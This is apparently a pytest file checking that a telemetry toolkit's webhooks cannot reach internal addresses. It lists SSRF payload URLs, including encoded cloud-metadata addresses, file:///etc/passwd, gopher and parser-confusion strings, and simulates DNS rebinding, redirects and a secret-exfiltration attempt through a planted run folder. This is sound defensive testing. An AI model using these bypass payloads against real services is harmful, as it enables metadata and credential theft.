"""Messages aimed at forbidden addresses: this machine, its network, the cloud metadata service."""

from __future__ import annotations

import json
import os
import textwrap
from pathlib import Path

import pytest

from tests.attacks.hostile_folders import an_ordinary_run
from tests.fork_server import run_python
from toolkit.cli.main import main

ROOT = Path(__file__).parents[2]

ADDRESSES = (
    "http://169.254.169.254/latest/meta-data/",
    "https://169.254.169.254/latest/meta-data/",
    "https://[fd00:ec2::254]/",
    "https://[::ffff:169.254.169.254]/",
    "https://[::ffff:a9fe:a9fe]/",
    "https://[64:ff9b::169.254.169.254]/",
    "https://[2002:a9fe:a9fe::1]/",
    "https://2852039166/",
    "https://0xa9fea9fe/",
    "https://0xa9.0xfe.0xa9.0xfe/",
    "https://0251.0376.0251.0376/",
    "https://169.254.43518/",
    "https://10.0.0.1/",
    "https://172.16.0.1/",
    "https://192.168.1.1/",
    "https://100.64.0.1/",
    "https://0.0.0.0/",
    "https://0/",
    "https://[::]/",
    "https://[fe80::1%25eth0]/",
    "https://[fc00::1]/",
    "https://224.0.0.1/",
    "https://255.255.255.255/",
    "https://198.18.0.1/",
    "https://192.0.0.192/",
    "https://168.63.129.16/",
    "http://hooks.evil.test/",
    "ftp://hooks.evil.test/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:{port}/_x",
    "https://user:secret@hooks.evil.test/",
    "https://hooks.evil.test#@127.0.0.1:{port}/",
    "https://hooks.evil.test\\\\@127.0.0.1:{port}/",
    "https://127.0.0.1:{port}\\t/",
    "//127.0.0.1:{port}/",
    "http://localhost.evil.test:{port}/",
    "http://127.0.0.1.evil.test:{port}/",
    "https://localhost.evil.test:{port}/",
    "https://127.0.0.1.evil.test:{port}/",
    "https://2130706433:{port}/",
    "https://0x7f.1:{port}/",
    "https://0177.0.0.1:{port}/",
    "https://127.1:{port}/",
    "https://private.evil.test:{port}/",
    "https://mapped.evil.test:{port}/",
    "https://metadata.evil.test/",
    "https://rebinding.evil.test:{port}/",
    "https://both.evil.test:{port}/",
)
"""The victim listens at {port} of this machine; names under evil.test lead where the one who owns them likes."""

AIM = """
    import json, socket, sys
    from pathlib import Path
    from tests.mirrors.messages.local_receivers import receiving
    from tests.waiting import wait_until
    from toolkit.telemetry import TelemetryLogger
    from toolkit.mirrors.messages.options import MOST_RECEIVERS, MessageOptions
    from toolkit.telemetry.options import OptionsError

    reached, looked_up = [], {}

    def watch(event, arguments):
        if event == "socket.connect":
            where = arguments[1][0]
            reached.append(where)
            if where in ("93.184.216.34", "2606:2800:220:1::1"):
                raise ConnectionRefusedError("nobody is there")

    names = {
        "private": ["10.0.0.7"], "mapped": ["::ffff:127.0.0.1"], "metadata": ["169.254.169.254"],
        "localhost": ["127.0.0.1"], "127.0.0.1": ["127.0.0.1"], "both": ["127.0.0.1", "93.184.216.34"],
        "hooks": ["93.184.216.34"],
    }
    real = socket.getaddrinfo

    def look_up(host, port, *rest, **more):
        if not str(host).endswith(".evil.test"):
            return real(host, port, *rest, **more)
        looked_up[host] = looked_up.get(host, 0) + 1
        name = host.removesuffix(".evil.test")
        # Public for whoever checks, private for whoever comes back.
        found = names.get(name) or (["93.184.216.34"] if looked_up[host] == 1 else ["127.0.0.1"])
        family = {True: socket.AF_INET6, False: socket.AF_INET}
        return [(family[":" in ip], socket.SOCK_STREAM, 6, "", (ip, port)) for ip in found]

    socket.getaddrinfo = look_up
    sys.addaudithook(watch)
    place = Path(sys.argv[1])
    refused = sent = 0
    with receiving() as victim, receiving() as redirecting:
        to = {"Location": f"{victim.url}/stolen"}
        redirecting.answers[:] = [(status, to, b"") for status in (301, 302, 303, 307, 308)]
        addresses = [one.format(port=victim.port) for one in json.loads(sys.argv[2])]
        receivers = []
        for url in addresses:
            block = {"to": "webhook", "url": url, "when": ["start"]}
            try:
                MessageOptions.from_block("messages", [block])
            except OptionsError:
                refused += 1
            else:
                receivers.append(block)
        for number in range(0, len(receivers), MOST_RECEIVERS):
            log = TelemetryLogger(
                f"r{number}", log_dir=place, system=False, csv=False, control=False,
                messages=(batch := receivers[number : number + MOST_RECEIVERS]),
            )
            log.log_start()
            sent += len(log._options.message_options)
            log.flush()
            if any("rebinding" in receiver["url"] for receiver in batch):
                wait_until(lambda: looked_up.get("rebinding.evil.test", 0) >= 2)
            log.close()
        inside = [where for where in reached if where not in ("93.184.216.34", "2606:2800:220:1::1")]
        for number in range(5):
            log = TelemetryLogger(
                f"redirected{number}", log_dir=place, system=False, csv=False, control=False,
                messages=[{"to": "webhook", "url": f"{redirecting.url}/", "when": ["start"]}],
            )
            log.log_start()
            log.flush()
            wait_until(lambda: len(redirecting.got) > number)
            log.close()
        print(json.dumps({
            "inside": inside, "victim": len(victim.got), "refused": refused, "sent": sent,
            "redirecting": len(redirecting.got), "rebound": looked_up.get("rebinding.evil.test", 0),
        }))
"""


def test_no_webhook_reaches_a_machine_inside_whatever_its_address_says(tmp_path, record_property):
    done = run_python(
        ["-c", textwrap.dedent(AIM), tmp_path, json.dumps(ADDRESSES)],
        env={**os.environ, "PYTHONPATH": str(ROOT), "no_proxy": "*"},
        capture_output=True,
        text=True,
        timeout=200,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    told = json.loads(done.stdout.strip().splitlines()[-1])

    assert told["inside"] == []
    assert told["victim"] == 0
    assert told["refused"] + told["sent"] == len(ADDRESSES)
    assert told["rebound"] >= 2, "the name was never looked up again"
    assert told["redirecting"] == 5, "nothing was sent at all, and the test proves nothing"
    tried = f"{len(ADDRESSES)} addresses and {told['redirecting']} redirects"
    record_property("measured", f"{tried}, {len(told['inside'])} connections to a machine inside")


IN_ONES_OWN_NETWORK = """
    import ctypes, fcntl, json, os, socket, struct, sys, threading
    from pathlib import Path

    # A network of its own, in which this machine is 10.254.7.9 and nothing else is there.
    if ctypes.CDLL(None, use_errno=True).unshare(0x40000000) != 0:
        sys.exit(77)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        address = struct.pack("16sHH4s8x", b"lo", socket.AF_INET, 0, socket.inet_aton("10.254.7.9"))
        fcntl.ioctl(any_socket, 0x8916, address)
        fcntl.ioctl(any_socket, 0x8914, struct.pack("16sH14x", b"lo", 0x1 | 0x40))

    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
    from toolkit.cli.main import main
    from toolkit.runfolder.reader import read_from
    from toolkit.telemetry import TelemetryLogger

    got = []

    class Chat(BaseHTTPRequestHandler):
        def do_POST(self):
            got.append((self.path, self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_):
            pass

    names = {"chat.corp.test": "10.254.7.9", "turned.corp.test": "169.254.169.254"}
    real = socket.getaddrinfo
    socket.getaddrinfo = lambda host, *rest, **more: real(names.get(host, host), *rest, **more)
    server = ThreadingHTTPServer(("10.254.7.9", 0), Chat)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port, place = server.server_port, Path(sys.argv[1])
    os.environ["WHERE"] = f"http://10.254.7.9:{port}/by-variable"

    def run(name, receiver):
        "Have a run send its start and end to `receiver`, and return what came of it, and its folder."
        options = {"log_dir": place, "messages": [receiver], "close_timeout": 60.0}
        config = {"telemetry": {"messages": [receiver]}}
        with TelemetryLogger(name, system=False, csv=False, config=config, **options) as log:
            log.log_start()
        records = read_from(log.run_folder / "metrics.jsonl").records
        return [one for one in records if one["event"] in ("message", "error")], log.run_folder

    allowed = {"to": "slack", "allow_private": True}
    result = {"sent": [], "refused": []}
    for url in (f"http://10.254.7.9:{port}/hooks/a", f"http://chat.corp.test:{port}/hooks/b"):
        result["sent"] += [one["status"] for one in run("allowed", {**allowed, "url": url})[0]]
    by_variable, folder = run("variable", {**allowed, "url_env": "WHERE"})
    result["sent"] += [one["status"] for one in by_variable]
    before = len(got)
    refused, _ = run("not-allowed", {"to": "slack", "url_env": "WHERE"})
    result["refused"] += [one["message"] for one in refused]
    turned, _ = run("turned", {**allowed, "url": "http://turned.corp.test/latest/meta-data"})
    result["refused"] += [one["reason"] for one in turned if one["event"] == "message"]
    # The folder says allow_private too, and is not asked.
    result["from_folder"] = main(["message", str(folder)])
    result["arrived"], result["after"] = before, len(got) - before
    print(json.dumps(result))
"""


def test_the_private_network_is_reached_only_if_the_yaml_allows_it(tmp_path, record_property):
    done = run_python(
        ["-c", textwrap.dedent(IN_ONES_OWN_NETWORK), tmp_path],
        env={**os.environ, "PYTHONPATH": str(ROOT), "http_proxy": "http://10.254.7.9:9", "all_proxy": ""},
        capture_output=True,
        text=True,
        timeout=200,
        check=False,
    )
    if done.returncode == 77:
        pytest.skip("this user may not make a network of its own")
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout.strip().splitlines()[-1])

    assert set(result["sent"]) == {"delivered"}
    assert result["arrived"] == len(result["sent"]) >= 3
    assert result["after"] == 0
    assert "in a private network; that needs allow_private: true" in result["refused"][0]
    assert all("169.254.169.254, which is not in a private network" in one for one in result["refused"][1:])
    assert result["from_folder"] == 1
    assert "a run folder cannot allow it" in done.stdout
    record_property(
        "measured", f"{result['arrived']} messages into the own network, {result['after']} beyond"
    )


def test_a_run_folder_chooses_neither_the_receiver_nor_the_variable_of_a_message(
    tmp_path, monkeypatch, capsys
):
    """A downloaded run would have `telemetry message` send any variable to any address, as a token."""
    from tests.mirrors.messages.local_receivers import receiving

    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI-canary")
    with receiving() as thief:
        for service in ("ntfy", "webhook"):
            block = {"to": service, "url": f"{thief.url}/topic", "secret_env": "AWS_SECRET_ACCESS_KEY"}
            run = an_ordinary_run(tmp_path, service)
            start = {"event": "start", "seq": 0, "session": 1, "config": {"telemetry": {"messages": [block]}}}
            (run / "metrics.jsonl").write_text(json.dumps(start) + "\n")

            assert main(["message", str(run)]) == 1
            assert "is not trusted" in capsys.readouterr().err
        assert main(["message", "--show", str(run)]) == 0

    assert thief.got == []
    assert "canary" not in capsys.readouterr().out
